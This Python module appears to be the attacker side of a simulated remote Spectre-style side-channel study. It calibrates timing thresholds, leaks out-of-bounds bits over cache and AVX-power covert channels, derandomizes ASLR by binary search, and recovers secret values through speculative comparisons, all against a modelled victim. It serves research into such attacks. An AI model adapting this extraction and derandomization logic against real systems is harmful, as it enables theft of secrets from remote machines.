"""The attacking client: corner-case calibration, four-step bitwise
extraction over the cache and SIMD-power covert channels, address-layout
derandomization by binary search, and value recovery through speculative
comparisons.

A Session owns one transport.  Every sampled read is one stream of
round-trip times, one wire.CHUNK at a time (Session._rtts).  On the
in-process loopback transport the per-measurement loop can run vectorized
server-side (identical semantics, see Victim.stream), and a read of only a
mean and variance can be drawn exactly from the victim's moments
(Session.moments); per request, the same stream is filled one iteration
at a time, and over UDP every request is a real datagram.
"""

from __future__ import annotations

import math
import time
from dataclasses import dataclass, field
from typing import Callable, Optional

import numpy as np

from . import stats, wire
from .stats import HistogramSpec
from .victim import Victim, VictimConfig
from .wire import (LoopbackTransport, RequestTimeout, STATUS_BAD_ARG,
                   STATUS_OK, WireError)


class CalibrationError(RuntimeError):
    pass


class ExtractionError(RuntimeError):
    pass


@dataclass
class ExtractionPlan:
    """Tunables of one extraction run."""

    channel: str = "cache"               # cache | avx
    measurements_per_bit: int = 1_000_000
    mistrain_count: int = 10
    mistrain_index: int = 0              # in-bounds index used for training
    reset_bytes: int = 590_000           # download size for cache thrashing
    avx_wait_ns: float = 1_000_000.0     # idle time that powers the unit down
    target_bit_range: tuple[int, int] = (0, 0)   # out-of-bounds bit indices
    decision: str = "mean"               # mean | mode
    histogram: HistogramSpec = field(default_factory=HistogramSpec)

    def validate(self) -> None:
        if self.channel not in ("cache", "avx"):
            raise ValueError(f"unknown channel {self.channel!r}")
        if self.measurements_per_bit < 1:
            raise ValueError("need at least one measurement per bit")
        if self.channel == "cache" and self.reset_bytes <= 0:
            raise ValueError("cache channel needs a positive reset size")
        if self.mistrain_count < 1:
            raise ValueError("need at least one training request")
        if self.decision not in ("mean", "mode"):
            raise ValueError(f"unknown decision rule {self.decision!r}")


@dataclass
class Calibration:
    """Corner-case timing summary: known-fast and known-slow distributions."""

    mean_hit_ns: float
    mean_miss_ns: float
    threshold_ns: float
    sigma_est_ns: float
    samples_per_corner: Optional[int] = None   # None: means taken as exact

    @property
    def threshold_se_ns(self) -> float:
        """Standard error of the threshold, the mean of two corner means."""
        if not self.samples_per_corner:
            return 0.0
        return self.sigma_est_ns / math.sqrt(2 * self.samples_per_corner)

    def __post_init__(self):
        if not self.mean_hit_ns < self.threshold_ns < self.mean_miss_ns:
            raise CalibrationError(
                f"corner cases out of order: hit={self.mean_hit_ns:.1f} "
                f"threshold={self.threshold_ns:.1f} miss={self.mean_miss_ns:.1f}")


@dataclass
class BitRead:
    bit: int
    confidence: float                    # signed z; positive favors 1
    rtts_ns: Optional[np.ndarray] = None


REQUEST_RETRIES = 3   # resends of a request that timed out


class Session:
    """One measurement loop against one victim."""

    def __init__(self, transport, batched: bool = True):
        self.transport = transport
        self._loopback = isinstance(transport, LoopbackTransport)
        self.batched = batched and self._loopback
        self.counters: wire.Counts = wire.Counts()
        self._nonce = 0
        self._wall_reset = False   # victim rejected ADVANCE_CLOCK; sleep instead

    # -- raw requests ----------------------------------------------------

    def request(self, opcode: int, arg: int = 0, timed: bool = True):
        """One request's (response, rtt).  Only a loopback transport is told
        ``timed``; there an untimed request builds no round trip (rtt None)."""
        self._nonce = nonce = self._nonce + 1
        packet = (opcode, arg, nonce)
        retries = REQUEST_RETRIES
        while True:
            try:
                response, rtt = (self.transport.request(packet, timed)
                                 if self._loopback
                                 else self.transport.request(packet))
                break
            except RequestTimeout:
                if not retries:
                    raise
                retries -= 1
        self.counters[opcode] += 1
        if response[1] != nonce:        # (status, nonce, payload)
            raise WireError("response nonce mismatch")
        return response, rtt

    def total_requests(self) -> int:
        return sum(self.counters.values())

    def _advance_or_wait(self, ns: float) -> None:
        if not self._wall_reset:
            status = self.request(wire.OP_ADVANCE_CLOCK, int(ns), False)[0][0]
            if status == STATUS_OK:
                return
            if status != STATUS_BAD_ARG:
                raise WireError(f"unexpected status {status}")
            self._wall_reset = True   # wall-clock victim: wait for real
        time.sleep(ns / 1e9)

    # -- measurement loops -----------------------------------------------

    def _rtts(self, schedule: list, n: int, out: Optional[np.ndarray] = None):
        """The round-trip times of n iterations of ``schedule``, each
        iteration's last request timed, one wire.CHUNK at a time: yields
        each of ``wire.views(n, out)`` filled.  Batched, a view is a chunk
        of ``Victim.stream`` turned into round trips in place, and the
        session is charged with the victim, when the batch settles (first
        view); per request, it is filled one iteration at a time, drawing
        noise for the timed request alone, as a batch does.  Either way
        ``wire.schedule_counts`` first admits n and the schedule."""
        counts = wire.schedule_counts(schedule, n)
        if self.batched:
            t = self.transport
            ct = t.victim.config.cycle_time_ns
            for view in t.victim.stream(schedule, n, out):
                self.counters.update(counts)   # once: the batch has settled
                counts = ()
                view *= ct
                yield t.latency.rtt(view, t.rng, size=len(view))
            return
        *steps, (timed_op, timed_arg) = schedule
        request, advance = self.request, wire.OP_ADVANCE_CLOCK
        for view in wire.views(n, out):
            for i in range(view.shape[0]):
                for op, arg in steps:
                    if op == advance:
                        self._advance_or_wait(arg)
                    else:
                        request(op, arg, False)
                view[i] = request(timed_op, timed_arg)[1]
            yield view

    def _collect(self, schedule: list, n: int) -> np.ndarray:
        """n iterations of ``schedule``; returns the round-trip time of each
        iteration's last request."""
        out = np.empty(n)
        for _ in self._rtts(schedule, n, out):
            pass
        return out

    def collect_bit(self, plan: ExtractionPlan, bit_index: int,
                    n: Optional[int] = None) -> np.ndarray:
        """n iterations of mistrain / reset / leak / transmit; returns the
        transmit round-trip times."""
        plan.validate()
        n = plan.measurements_per_bit if n is None else n
        return self._collect(self.bit_schedule(plan, bit_index), n)

    def bit_schedule(self, plan: ExtractionPlan, bit_index: int) -> list:
        """``wire.leak_schedule`` for ``plan``."""
        reset = plan.reset_bytes if plan.channel == "cache" else plan.avx_wait_ns
        return wire.leak_schedule(plan.channel, bit_index, plan.mistrain_count,
                                  plan.mistrain_index, reset)

    def collect_corner(self, channel: str, corner: str, n: int,
                       plan: Optional[ExtractionPlan] = None) -> np.ndarray:
        return self._collect(
            self.corner_schedule(channel, corner, plan or ExtractionPlan()), n)

    def collect_value(self, guess: int, n: int,
                      plan: Optional[ExtractionPlan] = None) -> np.ndarray:
        plan = plan or ExtractionPlan()
        return self._collect(
            wire.value_schedule(guess, plan.mistrain_count, plan.reset_bytes), n)

    def collect_aslr(self, lo: int, hi: int, n: int,
                     mistrain: int = 10) -> np.ndarray:
        return self._collect(wire.aslr_schedule(lo, hi, mistrain), n)

    def corner_schedule(self, channel: str, corner: str, plan: ExtractionPlan) -> list:
        """``wire.corner_schedule`` for ``plan``."""
        return wire.corner_schedule(channel, corner, plan.reset_bytes,
                                    plan.avx_wait_ns)

    def moments(self, schedule: list, n: int) -> tuple[float, float]:
        """Mean and ddof-1 variance of the timed round trips of n iterations
        of ``schedule``.  Where ``_reducible``, they are drawn exactly from
        the victim's moments (``rtt_moments``); otherwise they are read
        from samples (``sample_moments``)."""
        t = self.transport
        if self._reducible(n):
            mean, ss = t.victim.run_moments(schedule, n)
            self.counters.update(wire.schedule_counts(schedule, n))
            ct = t.victim.config.cycle_time_ns
            return t.latency.rtt_moments(n, mean * ct, ss * ct * ct, t.rng)
        return self.sample_moments(schedule, n)

    def sample_moments(self, schedule: list, n: int) -> tuple[float, float]:
        """Mean and ddof-1 variance of the n timed round trips of
        ``schedule``, each one drawn: each wire.CHUNK of round trips is
        reduced as it is drawn (``_rtts``), so no n-long array is made."""
        return _moments(self._rtts(schedule, n))

    def _reducible(self, n: int) -> bool:
        """The one rule under which a read of n iterations skips its round
        trips: batched, no mitigation noise, Gaussian noise of sigma > 0
        and under 1e-12 chance of a clamp at 0."""
        t = self.transport
        return (self.batched and t.victim.config.mitigation_noise_sigma_ns == 0
                and t.latency.distribution == "gaussian" and t.latency.sigma_ns > 0
                and n * t.latency.clamp_probability() < 1e-12)

    def drawn_moments(self, schedule: list, n: int,
                      out: Optional[np.ndarray] = None) -> tuple[float, float]:
        """What ``sample_moments`` reads, the round trips written to ``out``
        if given.  Without ``out`` and where ``_reducible``, it is reduced
        from the same draws alone, which may change its last bits: a
        settled round trip is one of two bases, by its eviction draw, plus
        noise g z, so each chunk's shifted sums follow from z's sum, sum of
        squares and sum over the evictions, and their count (Chan, Golub &
        LeVeque 1983); charged as ``_rtts`` is, at the first view."""
        if out is not None or not self._reducible(n):
            return _moments(self._rtts(schedule, n, out))
        counts = wire.schedule_counts(schedule, n)
        t, lat = self.transport, self.transport.latency
        ct, base2 = t.victim.config.cycle_time_ns, 2.0 * lat.base_ns
        g, buf = lat.sigma_ns, np.empty(min(n, wire.CHUNK))
        shift, total, total_sq = None, 0.0, 0.0
        for view, h, evict, keep in t.victim.evictions(schedule, n):
            z = t.rng.standard_normal(out=buf[:len(view)])
            d = np.maximum(view[:h] * ct + base2 + g * z[:h], 0.0)  # as _rtts
            if shift is None:     # the first round trip; the bases keep, evict
                self.counters.update(counts)     # the batch has settled
                bases = np.array([0.0, 1.0]) * (evict - keep) + keep
                bases = bases * ct + base2
                shift = float(d[0] if h else max(
                    bases[int(view[0] == 1.0)] + g * z[0], 0.0))
                a, b = float(bases[1]) - shift, float(bases[0]) - shift
            d -= shift
            m, z = view[h:], z[h:]   # e evict, k - e keep: this chunk's sums
            k, e = len(m), float(m.sum()) if evict != keep else 0.0
            smz = float(np.multiply(m, z, out=m).sum()) if e else 0.0
            sz = float(z.sum())   # the products overwrite summed buffers
            total += float(d.sum()) + e * a + (k - e) * b + g * sz
            total_sq += (float(np.square(d, out=d).sum()) + e * a * a
                         + (k - e) * b * b + 2.0 * g * (a * smz + b * (sz - smz))
                         + g * g * float(np.square(z, out=z).sum()))
        return _finish(n, shift, total, total_sq)


def _moments(chunks) -> tuple[float, float]:
    """Mean and ddof-1 variance of the samples in ``chunks``, summed about
    the first sample for numerical stability.  The shifted samples go to
    one scratch chunk, so the chunks are left as they are."""
    n, shift, total, total_sq = 0, None, 0.0, 0.0
    for chunk in chunks:
        if shift is None:
            shift = float(chunk[0])
            scratch = np.empty(chunk.shape[0])   # the first is the longest
        d = np.subtract(chunk, shift, out=scratch[:chunk.shape[0]])
        total += float(d.sum())
        total_sq += float(np.square(d, out=d).sum())
        n += d.shape[0]
    return _finish(n, shift, total, total_sq)


def _finish(n: int, shift: float, total: float, total_sq: float):
    """Mean and ddof-1 variance of n samples from their sums about shift."""
    mean = total / n
    var = max(0.0, (total_sq - n * mean * mean) / (n - 1)) if n > 1 else 0.0
    return shift + mean, var


def loopback_session(cfg: VictimConfig, seed: int) -> Session:
    """A batched session against a fresh in-process victim.  The seed's
    first child stream drives the victim, the second the transport noise,
    so a seed fixes every output of a virtual-clock run."""
    victim_seed, transport_seed = np.random.SeedSequence(seed).spawn(2)
    victim = Victim(cfg, rng=np.random.default_rng(victim_seed))
    return Session(LoopbackTransport(victim, cfg.latency,
                                     np.random.default_rng(transport_seed)))


# ---------------------------------------------------------------------------
# Calibration and decision
# ---------------------------------------------------------------------------

def calibrate(session: Session, plan: ExtractionPlan,
              n: Optional[int] = None, channel: Optional[str] = None) -> Calibration:
    """Measure the two known corner cases and derive the decision threshold.

    Fails when the corner means are statistically indistinguishable at the
    chosen sample count; the fix is to raise n.
    """
    channel = channel or plan.channel
    n = n if n is not None else plan.measurements_per_bit

    def corner(name: str) -> tuple[float, float]:
        return session.moments(session.corner_schedule(channel, name, plan), n)

    mean_hit, var_hit = corner("hit")
    mean_miss, var_miss = corner("miss")
    sigma = math.sqrt(0.5 * (var_hit + var_miss))
    if abs(mean_miss - mean_hit) < 4.0 * sigma / math.sqrt(n):
        raise CalibrationError(
            f"corner cases indistinguishable at n={n} "
            f"(|{mean_miss - mean_hit:.1f}| ns gap, sigma {sigma:.1f} ns); "
            "increase the measurement count")
    return Calibration(mean_hit_ns=mean_hit, mean_miss_ns=mean_miss,
                       threshold_ns=0.5 * (mean_hit + mean_miss),
                       sigma_est_ns=sigma, samples_per_corner=n)


def proportion_z(rtts: np.ndarray, threshold_ns: float) -> float:
    """Signed z-statistic of the fraction of samples on the fast side."""
    n = rtts.size
    p = np.count_nonzero(rtts < threshold_ns) / n
    se = math.sqrt(max(p * (1.0 - p), 0.0) / n)
    if se == 0.0:
        return math.inf if p > 0.5 else (-math.inf if p < 0.5 else 0.0)
    return (p - 0.5) / se


def mean_z(mean: float, var: float, n: int, threshold_ns: float) -> float:
    """Signed z of a mean of n samples of variance ``var`` against the
    threshold; positive on the fast side.  Zero variance gives +-inf off
    the threshold and 0 on it."""
    gap = threshold_ns - mean
    se = math.sqrt(var / n)
    if se == 0.0:
        return math.copysign(math.inf, gap) if gap else 0.0
    return gap / se


def leak_bit(session: Session, plan: ExtractionPlan, calib: Calibration,
             bit_index: int, keep_samples: bool = False) -> BitRead:
    """Run the four-step loop for one out-of-bounds bit index.

    The bit's confidence is the z of the statistic that decides it: the
    mean's (``mean_z``) or, for the mode rule, the proportion of fast
    samples (``proportion_z``).  The samples are streamed
    (``Session.drawn_moments``), into an n-long array only when they are
    kept or the mode rule needs them, and are never drawn exactly from
    moments: that redraw read 3 flips at criterion 1's pinned seeds, where
    the criterion allows 1."""
    plan.validate()
    threshold, n = calib.threshold_ns, plan.measurements_per_bit
    rtts = np.empty(n) if keep_samples or plan.decision == "mode" else None
    mean, var = session.drawn_moments(
        session.bit_schedule(plan, bit_index), n, rtts)
    if plan.decision == "mode":
        stat = stats.histogram(rtts, plan.histogram).mode_ns()
        z = proportion_z(rtts, threshold)
    else:
        stat, z = mean, mean_z(mean, var, n, threshold)
    return BitRead(bit=int(stat < threshold),   # the fast side is 1, a tie 0
                   confidence=z, rtts_ns=rtts if keep_samples else None)


# ---------------------------------------------------------------------------
# Range extraction
# ---------------------------------------------------------------------------

LOW_CONFIDENCE_Z = 1.0   # |z| below which a leaked bit is reported


@dataclass
class LeakResult:
    bits: list[int]
    confidences: list[float]
    data: bytes                      # MSB-first packing of whole bytes
    low_confidence_bits: list[int]   # positions within the leaked range
    requests_total: int
    requests_per_bit: float
    wall_seconds: float
    projected_seconds_per_bit: float

    @property
    def projected_bits_per_hour(self) -> float:
        if self.projected_seconds_per_bit <= 0:
            return math.inf
        return 3600.0 / self.projected_seconds_per_bit


def _projected_packet_ns(session: Session, calib: Calibration) -> float:
    """One request's cost: on loopback the modelled round trip of a
    request's handler time, else the hit round trip calibration measured."""
    t = session.transport
    if isinstance(t, LoopbackTransport):
        server_ns = t.victim.config.handler_cycles * t.victim.config.cycle_time_ns
        return 2.0 * t.latency.base_ns + server_ns
    return calib.mean_hit_ns


def leak_range(session: Session, plan: ExtractionPlan, calib: Calibration,
               sample_sink: Optional[Callable[[int, np.ndarray], None]] = None,
               progress: Optional[Callable[[int, BitRead], None]] = None) -> LeakResult:
    """Leak the plan's whole bit range MSB-first and account request costs.

    The projected rate charges every request one round trip: on loopback
    the latency model's (2 base + the handler's cycles), not the wall time
    of the in-process run; against any other target the mean hit round
    trip its calibration measured.
    """
    start_bit, end_bit = plan.target_bit_range
    if end_bit <= start_bit:
        raise ValueError("empty target bit range")
    requests_before = session.total_requests()
    t0 = time.monotonic()
    bits: list[int] = []
    confidences: list[float] = []
    low_conf: list[int] = []
    for pos, bit_index in enumerate(range(start_bit, end_bit)):
        keep = sample_sink is not None
        read = leak_bit(session, plan, calib, bit_index, keep_samples=keep)
        bits.append(read.bit)
        confidences.append(read.confidence)
        if abs(read.confidence) < LOW_CONFIDENCE_Z:
            low_conf.append(pos)
        if keep:
            sample_sink(pos, read.rtts_ns)
        if progress is not None:
            progress(pos, read)

    data = np.packbits(np.array(bits[:len(bits) // 8 * 8], np.uint8)).tobytes()
    requests = session.total_requests() - requests_before
    per_packet_ns = _projected_packet_ns(session, calib)
    per_bit = requests / len(bits)
    return LeakResult(
        bits=bits, confidences=confidences, data=data,
        low_confidence_bits=low_conf, requests_total=requests,
        requests_per_bit=per_bit, wall_seconds=time.monotonic() - t0,
        projected_seconds_per_bit=per_bit * per_packet_ns / 1e9)


# ---------------------------------------------------------------------------
# Derandomization and value recovery
# ---------------------------------------------------------------------------

ASLR_ROUND_RETRIES = 3   # attempts at a round before it is inconsistent


@dataclass
class AslrRound:
    lo: int
    hi: int
    mid: int
    mean_left_ns: float
    mean_right_ns: float
    went_left: bool
    attempts: int


@dataclass
class AslrResult:
    offset: int
    rounds: list[AslrRound]
    requests_total: int


def break_aslr(session: Session, aslr_space_bits: int, probes_per_check: int,
               mistrain: int = 10,
               calib: Optional[Calibration] = None) -> AslrResult:
    """Binary-search the single cacheable offset out of 2^M candidates.

    Each round speculatively probes one half of the remaining range and
    times the fixed-address function; a cache hit selects that half.  Both
    halves are measured so an inconsistent round (hit in neither or both)
    can be detected and retried.  The space must fit the probe's 32-bit
    fields: at most wire.MAX_SPACE_BITS bits.
    """
    if not (isinstance(aslr_space_bits, (int, np.integer))
            and 0 <= aslr_space_bits <= wire.MAX_SPACE_BITS):
        raise ValueError(f"aslr_space_bits outside [0, {wire.MAX_SPACE_BITS}]"
                         " or not an integer")
    if calib is None:
        plan = ExtractionPlan(measurements_per_bit=probes_per_check)
        calib = calibrate(session, plan, n=probes_per_check, channel="aslr")

    def mean(lo: int, hi: int) -> float:
        return session.moments(wire.aslr_schedule(lo, hi, mistrain),
                               probes_per_check)[0]

    requests_before = session.total_requests()
    lo, hi = 0, 1 << aslr_space_bits
    rounds: list[AslrRound] = []
    while hi - lo > 1:
        mid = (lo + hi) // 2
        for attempt in range(1, ASLR_ROUND_RETRIES + 1):
            mean_left, mean_right = mean(lo, mid), mean(mid, hi)
            hit_left = mean_left < calib.threshold_ns
            hit_right = mean_right < calib.threshold_ns
            if hit_left != hit_right:
                break
        else:
            raise ExtractionError(
                f"inconsistent rounds for [{lo}, {hi}) after "
                f"{ASLR_ROUND_RETRIES} retries")
        rounds.append(AslrRound(lo, hi, mid, mean_left, mean_right,
                                went_left=hit_left, attempts=attempt))
        if hit_left:
            hi = mid
        else:
            lo = mid
    return AslrResult(offset=lo, rounds=rounds,
                      requests_total=session.total_requests() - requests_before)


VALUE_ERROR_BUDGET = 0.05   # chance that one recovered value is wrong
_MARGIN_SE = 2.0            # half-gap shrink, in threshold standard errors
_ROUND_PATIENCE = 10.0      # round cap, in Wald's expected comparisons at zero drift


@dataclass
class ValueRound:
    guess: int
    above: bool
    confidence: float        # z of the mean of all the round's samples;
                             # positive favors above
    comparisons: int         # n-sample comparisons the round needed


@dataclass
class ValueResult:
    value: int
    rounds: list[ValueRound]
    requests_total: int


def _compare_sequentially(session: Session, guess: int, n: int,
                          plan: ExtractionPlan, calib: Calibration,
                          half_gap_ns: float, bound: float) -> ValueRound:
    """Repeat the n-sample comparison at `guess` until Wald's sequential
    test decides whether it ran fast (guess < secret) or slow.

    The two hypotheses put the mean half_gap_ns either side of the
    threshold; their Gaussian log-likelihood ratio over all samples so far
    is 2 * half_gap * sum(threshold - rtt) / sigma^2, and the round stops
    when it leaves [-bound, bound].  Zero calibrated variance decides at
    once.
    """
    sigma = calib.sigma_est_ns
    var = sigma * sigma
    # per-comparison LLR variance; bound^2 / llr_var is Wald's expected
    # comparison count when the mean sits on the threshold
    llr_var = 4.0 * half_gap_ns * half_gap_ns * n / var if var > 0 else math.inf
    cap = max(1, math.ceil(_ROUND_PATIENCE * bound * bound / llr_var))
    schedule = wire.value_schedule(guess, plan.mistrain_count, plan.reset_bytes)
    shortfall = 0.0          # sum of threshold - rtt
    for comparisons in range(1, cap + 1):
        mean, _ = session.moments(schedule, n)
        shortfall += n * (calib.threshold_ns - mean)
        if var == 0:
            above = shortfall > 0
            break
        llr = 2.0 * half_gap_ns * shortfall / var
        if abs(llr) >= bound:
            above = llr > 0
            break
    else:
        raise ExtractionError(
            f"comparison at guess {guess} undecided after {cap} comparisons of "
            f"{n} samples; the channel is weaker than calibrated")
    if var > 0:
        z = shortfall / (sigma * math.sqrt(comparisons * n))
    else:
        z = math.copysign(math.inf, shortfall) if shortfall else 0.0
    return ValueRound(guess=guess, above=above, confidence=z,
                      comparisons=comparisons)


def value_threshold_search(session: Session, value_bits: int,
                           plan: ExtractionPlan, calib: Calibration) -> ValueResult:
    """Recover a k-bit secret integer by a binary search over noisy
    speculative comparisons, for k in [0, 64], the guesses a frame carries.

    Each of the k rounds asks whether the secret exceeds the midpoint
    guess; a fast transmit means the comparison body ran, i.e.
    guess < secret.  A round repeats its n-sample comparison until a
    sequential probability ratio test (Wald, 1945) reaches a per-round
    error of VALUE_ERROR_BUDGET / k, so the whole value is wrong with
    probability at most VALUE_ERROR_BUDGET.  Clean rounds stop after one
    comparison; rounds near the noise floor buy more.

    The test assumes a half-gap shrunk by _MARGIN_SE standard errors of the
    calibrated threshold, which keeps it honest when the threshold sits
    off the true midpoint.  A calibration whose half-gap does not exceed
    that margin cannot decide anything and raises ExtractionError, as does
    a round still undecided after _ROUND_PATIENCE times the comparisons
    Wald's test expects on a signal-free channel.
    """
    if not (isinstance(value_bits, (int, np.integer))
            and 0 <= value_bits <= 64):
        raise ValueError("value_bits outside [0, 64] or not an integer")
    plan.validate()
    n = plan.measurements_per_bit
    margin = _MARGIN_SE * calib.threshold_se_ns
    half_gap = 0.5 * (calib.mean_miss_ns - calib.mean_hit_ns) - margin
    if half_gap <= 0:
        raise ExtractionError(
            f"calibrated half-gap {half_gap + margin:.1f} ns does not exceed "
            f"{_MARGIN_SE:g} threshold standard errors ({margin:.1f} ns); "
            "calibrate with more samples")
    alpha = VALUE_ERROR_BUDGET / max(value_bits, 1)   # 0 bits: no rounds
    bound = math.log((1.0 - alpha) / alpha)
    requests_before = session.total_requests()
    lo, hi = 0, (1 << value_bits) - 1
    rounds: list[ValueRound] = []
    for _ in range(value_bits):
        mid = (lo + hi) // 2
        r = _compare_sequentially(session, mid, n, plan, calib, half_gap, bound)
        rounds.append(r)
        if r.above:
            lo = mid + 1
        else:
            hi = mid
    return ValueResult(value=lo, rounds=rounds,
                       requests_total=session.total_requests() - requests_before)
